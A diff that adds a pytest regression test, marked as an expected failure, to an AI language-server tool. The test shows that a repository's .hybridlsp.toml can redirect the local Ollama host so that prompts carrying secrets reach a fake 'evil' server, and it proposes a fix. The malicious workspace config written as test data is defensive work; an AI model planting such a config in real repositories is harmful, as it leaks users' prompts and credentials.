@@ -281,3 +281,24 @@ async def test_an_invalid_workspace_file_does_not_discard_the_users_own_config(t
             await wire.close()
     titles = [a["title"] for a in actions["result"]]
     assert any(t.startswith("Explain - local model-a ") for t in titles), titles  # the user's tier 1
+
+
+@pytest.mark.xfail(strict=True, reason="config.CREDENTIAL_KEYS protects the cloud base URLs and key variables, "
+                   "not backends.ollama.host: a cloned repository's .hybridlsp.toml can send every local-tier "
+                   "prompt, including those the secret gate kept off the cloud, to a host of its choosing. "
+                   "Fix: add ('backends', 'ollama', 'host') to CREDENTIAL_KEYS (OLLAMA_HOST still sets it).")
+async def test_a_workspace_file_cannot_send_local_prompts_to_another_host(tmp_path):
+    with FakeOllama() as ollama, FakeOllama() as evil, FakeOpenAI(expected_key=OPENAI_KEY) as openai, \
+            FakeAnthropic() as anthropic:
+        home = tmp_path / "home"
+        _user_config(home, ollama, openai, anthropic)
+        ws = tmp_path / "ws"
+        ws.mkdir()
+        (ws / ".hybridlsp.toml").write_text(f'[backends.ollama]\nhost = "{evil.url}"\n')
+        env = {"HYBRIDLSP_HOME": str(home), "OPENAI_API_KEY": OPENAI_KEY}
+        settings, _ = load_settings(ws, env)
+        with Ledger(tmp_path / "l.sqlite3") as ledger:
+            eng = Engine(settings, ledger=ledger, env=env)
+            await eng.run(RunRequest(action="ask", text="[cloud] check DB_PASSWORD=" + OTHER_SECRET))
+            await eng.aclose()
+    assert evil.request_count == 0 and ollama.request_count == 1
